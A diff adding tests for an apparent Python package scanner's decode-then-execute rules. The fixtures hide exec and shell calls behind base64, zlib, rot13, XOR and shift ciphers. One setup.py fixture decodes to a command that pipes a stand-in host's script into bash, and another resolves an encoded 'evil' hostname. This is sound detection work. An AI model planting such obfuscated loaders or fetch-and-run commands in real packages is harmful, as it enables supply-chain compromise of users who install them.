@@ -1,0 +1,114 @@
+"""Decode-then-execute: hidden payloads versus template engines and version-file exec."""
+
+from __future__ import annotations
+
+import base64
+import zlib
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules.execution import RULES
+from pipvet.models import Severity, Stage
+
+
+def _layered(code: str, layers: int) -> str:
+    data = code.encode()
+    for _ in range(layers):
+        data = base64.b64encode(zlib.compress(data))[::-1]
+    return data.decode()
+
+
+def test_exec_of_base64_at_module_level_is_critical() -> None:
+    payload = base64.b64encode(b"print('hi')").decode()
+    findings = run(
+        RULES, py(f"import base64\nexec(base64.b64decode('{payload}'))\n", path="acme/__init__.py")
+    )
+    assert ids(findings) == {"PV-EXE-001"}
+    assert findings[0].severity is Severity.CRITICAL
+    assert findings[0].stage is Stage.IMPORT
+
+
+def test_layers_through_variables_and_a_lambda_are_counted() -> None:
+    blob = _layered("print(1)", 1)
+    source = (
+        "import zlib as z, base64\n"
+        "_ = lambda d: z.decompress(base64.b64decode(d[::-1]))\n"
+        f"data = '{blob}'\n"
+        "code = _(data)\n"
+        "exec(code)\n"
+    )
+    findings = run(RULES, py(source, path="acme/utils/sync.py", stage=Stage.RUNTIME))
+    assert findings[0].severity is Severity.CRITICAL
+    assert "3 nested layers" in findings[0].message
+
+
+def test_aliased_and_indirect_exec_still_counts() -> None:
+    source = (
+        "import codecs\nrun = getattr(__import__('builtins'), 'exec')\n"
+        "run(codecs.decode('cevag(1)', 'rot13'))\n"
+    )
+    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-001"}
+
+
+def test_decoded_shell_command_is_reported() -> None:
+    source = "import os, base64\ncmd = 'aWQ='\nos.system(base64.b64decode(cmd).decode())\n"
+    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-001"}
+
+
+def test_decoded_module_name_import_is_reported() -> None:
+    source = "import base64\nm = __import__(base64.b64decode('b3M=').decode())\n"
+    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-002"}
+
+
+def test_benign_exec_patterns_are_quiet() -> None:
+    source = (
+        "import re, base64\n"
+        "exec(open('acme/_version.py').read())\n"  # setup-style version read
+        "def render(template, ns):\n"
+        "    code = compile(template.source, '<template>', 'exec')\n"  # template engine
+        "    exec(code, ns)\n"
+        "def attrs_like(cls):\n"
+        "    script = 'def __init__(self):\\n    pass\\n'\n"
+        "    eval(compile(script, '<attrs generated init>', 'exec'), {})\n"
+        "pattern = re.compile('x')\n"
+        "raw = base64.b64decode('aGk=')\n"  # decoding data that is never executed
+        "text = ''.join(chr(c) for c in range(65, 91))\n"
+        "exec(text)\n"
+    )
+    assert run(RULES, py(source, path="acme/__init__.py")) == []
+
+
+def test_xor_and_character_shift_ciphers_count_as_decoding() -> None:
+    xor = (
+        "key = 'k3y'\nblob = 'QXFW@G'\nout = ''\n"
+        "for i in range(len(blob)):\n    out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n"
+        "eval(compile(out, '<string>', 'exec'))\n"
+    )
+    assert ids(run(RULES, py(xor, path="acme/colors.py", stage=Stage.RUNTIME))) == {"PV-EXE-001"}
+    shift = "def d(s):\n    return eval(''.join([chr(ord(c) - 3) for c in s]))\n"
+    findings = run(RULES, py(shift, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert findings[0].severity is Severity.CRITICAL
+
+
+def test_network_address_hidden_by_encoding() -> None:
+    source = "import socket, base64\nsocket.gethostbyname(base64.b64decode('ZXZpbC5pbnZhbGlk').decode())\n"
+    assert ids(run(RULES, py(source, path="acme/__init__.py"))) == {"PV-EXE-003"}
+    plain = (
+        "import socket\nsocket.gethostbyname('example.invalid')\nsocket.gethostbyname(socket.gethostname())\n"
+    )
+    assert run(RULES, py(plain, path="acme/__init__.py")) == []
+
+
+def test_decoding_inside_a_local_helper_is_followed() -> None:
+    source = (
+        "import base64, os\n"
+        "def b64d(text):\n"
+        "    raw = base64.b64decode(text.encode('ascii'))\n"
+        "    code = raw.decode('ascii')\n"
+        "    return code\n"
+        "def hook():\n"
+        "    os.system(b64d('Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkIHwgYmFzaA=='))\n"
+    )
+    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert ids(findings) == {"PV-EXE-001"}
+    assert findings[0].severity is Severity.CRITICAL
